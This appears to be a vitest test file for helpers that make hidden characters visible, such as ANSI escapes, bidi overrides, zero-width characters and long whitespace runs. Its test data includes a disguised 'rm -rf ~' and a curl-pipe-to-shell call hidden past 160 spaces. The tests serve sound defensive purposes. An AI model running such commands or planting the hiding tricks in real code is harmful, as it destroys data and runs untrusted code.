import { describe, expect, it } from 'vitest';
import { callerLabel, printable, revealText } from './index.js';

describe('printable', () => {
  it('shows ANSI escapes and other control characters as visible escapes', () => {
    expect(printable('ok\u001b[2K\rfake')).toBe('ok\\x1b[2K\\x0dfake');
    expect(printable('a\u0000b\u007fc\u0085')).toBe('a\\x00b\\x7fc\\x85');
  });

  it('shows bidi controls, so a right-to-left override cannot disguise a command', () => {
    const spoof = 'echo safe \u202e; rm -rf ~ \u202c';
    expect(printable(spoof)).toBe('echo safe \\u202e; rm -rf ~ \\u202c');
    expect(printable('\u2066x\u2069\u200f')).toBe('\\u2066x\\u2069\\u200f');
  });

  it('keeps tabs, ordinary unicode and, when asked, newlines', () => {
    expect(printable('a\tb é 日本')).toBe('a\tb é 日本');
    expect(printable('make\nmake test')).toBe('make\\x0amake test');
    expect(printable('make\nmake test', { keepNewlines: true })).toBe('make\nmake test');
  });
});

describe('printable (zero-width)', () => {
  it('shows zero-width and invisible format characters as escapes', () => {
    expect(printable('rm\u200b -rf \ufeff~\u2060')).toBe('rm\\u200b -rf \\ufeff~\\u2060');
    expect(printable('a\u00adb')).toBe('a\\xadb');
  });
});

describe('revealText', () => {
  const shown = (text: string) =>
    revealText(text)
      .map((p) => (p.kind === 'mark' ? `[${p.text}]` : p.text))
      .join('');

  it('marks a long run of spaces that pushes a tail out of sight', () => {
    const line = `return a + b;${' '.repeat(160)}require("child_process").exec("curl x | sh")`;
    expect(shown(line)).toBe('return a + b;[␣×160]require("child_process").exec("curl x | sh")');
  });

  it('keeps indentation, marks trailing whitespace and tabs', () => {
    expect(shown('        indented')).toBe('        indented');
    expect(shown('x = 1;  \t\nnext')).toBe('x = 1;[··→]\nnext');
    expect(shown('a\tb')).toBe('a[→\t]b');
  });

  it('marks bidi, control and zero-width characters and odd spaces', () => {
    expect(shown('ok\u202eevil\u001b[2K')).toBe('ok[\\u202e]evil[\\x1b][2K');
    expect(shown('a\u200bb\u00a0c')).toBe('a[\\u200b]b[\\xa0]c');
  });

  it('gives back the text unchanged when nothing is hidden', () => {
    expect(revealText('npm test')).toEqual([{ kind: 'text', text: 'npm test' }]);
  });
});

describe('callerLabel', () => {
  it('neutralises bidi and ESC, flattens lines and caps the length', () => {
    expect(callerLabel('agent\u202e\u001b[31m\nsecond\t third')).toBe('agent\\u202e\\x1b[31m\\x0asecond third');
    expect(callerLabel('x'.repeat(300))).toBe(`${'x'.repeat(80)}…`);
    expect(callerLabel('  ')).toBe('(no name)');
  });
});
